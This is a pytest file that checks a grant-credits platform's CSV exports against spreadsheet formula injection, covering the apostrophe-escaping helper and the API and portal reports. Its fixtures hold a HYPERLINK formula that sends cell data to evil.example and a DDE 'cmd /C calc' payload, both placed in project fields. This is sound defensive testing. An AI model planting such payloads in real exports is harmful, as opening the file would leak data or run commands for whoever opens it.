"""Every CSV the platform writes is safe to open in a spreadsheet (issue 12, finding 12):
a text cell that starts like a formula gets a leading ``'``, in the API's, the
portal's and the CLI's report exports alike, and no module writes CSV but through
:mod:`credits.csv_cells`."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from api_world import FUNDER_P, RESEARCHER_A, World, build_world, world_executor
from flask import Flask
from sqlalchemy.orm import Session, sessionmaker
from ui_sign_in import sign_in_as

from credits.app import create_app
from credits.csv_cells import safe_cell, write_csv
from credits.db import utcnow
from credits.grants import awards, projects, proposals
from credits.identity.service import actor_for_email
from credits.settings import load_settings

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_INSTITUTION = "@SUM(1+1)*cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
SOURCE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+41 22 555", "'+41 22 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ice sheets", "Ice sheets"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (2.5, 2.5),
        (True, "True"),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(
    value: object, cell: object
) -> None:
    assert safe_cell(value) == cell


def test_write_csv_makes_every_cell_safe_the_header_included() -> None:
    text = write_csv(["=name", "n"], [{"=name": "-1-1", "n": -1}, {"n": 3}])

    assert list(csv.reader(io.StringIO(text))) == [["'=name", "n"], ["'-1-1", "-1"], ["", "3"]]


def test_write_csv_refuses_a_cell_outside_its_columns() -> None:
    with pytest.raises(ValueError, match="outside the columns"):
        write_csv(["a"], [{"a": 1, "b": 2}])


def test_no_module_writes_csv_but_through_the_one_helper() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        path.relative_to(SOURCE).as_posix()
        for folder in ("credits", "admin_ui", "scripts")
        for path in (SOURCE / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["credits/csv_cells.py"]


@pytest.fixture
def app(joined_session_factory: sessionmaker[Session]) -> Flask:
    return create_app(
        load_settings(), session_factory=joined_session_factory, executor=world_executor()
    )


def _hostile_project_awarded_by_p(
    session: Session, world: World, title: str = HOSTILE_TITLE
) -> int:
    pi = actor_for_email(session, f"{RESEARCHER_A}@example.org")
    owner = actor_for_email(session, f"{FUNDER_P}@example.org")
    project = projects.create_project(
        session,
        title=title,
        field_of_science="-Physics",
        institution=HOSTILE_INSTITUTION,
        actor=pi,
    )
    proposal = proposals.create_proposal(
        session,
        program_id=world.program_p,
        project_id=project.id,
        kind="new",
        actor=pi,
        title="+Formula proposal",
        abstract="a",
        justification="b",
        requested={"gpu": 1_000_000},
        starts_at=utcnow() + timedelta(days=1),
        ends_at=utcnow() + timedelta(days=60),
    )
    proposals.submit_proposal(session, proposal_id=proposal.id, actor=pi)
    awards.award_proposal(
        session,
        proposal_id=proposal.id,
        actor=owner,
        key="csv-award",
        amounts={"gpu": 1_000_000},
        starts_at=utcnow(),
        ends_at=utcnow() + timedelta(days=60),
        override_reason="test",
    )
    session.flush()
    return project.id


def _assert_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    unsafe = [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(cell)
    ]
    assert not unsafe
    return rows


def test_the_program_report_csv_of_the_api_and_the_portal_is_safe(
    app: Flask, session: Session
) -> None:
    world = build_world(session)
    _hostile_project_awarded_by_p(session, world)
    client = app.test_client()
    api = client.get(
        f"/api/v1/programs/{world.program_p}/report?format=csv", headers=world.headers[FUNDER_P]
    )
    sign_in_as(client, world.user_ids[FUNDER_P])
    portal = client.get(f"/funder/programs/{world.program_p}/report.csv")

    for response in (api, portal):
        assert response.status_code == 200
        cells = {cell for row in _assert_safe(response.get_data(as_text=True)) for cell in row}
        assert "'" + HOSTILE_TITLE in cells
        assert "'" + HOSTILE_INSTITUTION in cells


def test_a_title_that_starts_like_a_time_is_written_as_it_is(app: Flask, session: Session) -> None:
    world = build_world(session)
    title = "2027-01-01T09:00 baseline runs"
    _hostile_project_awarded_by_p(session, world, title=title)
    response = app.test_client().get(
        f"/api/v1/programs/{world.program_p}/report?format=csv", headers=world.headers[FUNDER_P]
    )
    assert response.status_code == 200
    assert title in {cell for row in _assert_safe(response.get_data(as_text=True)) for cell in row}
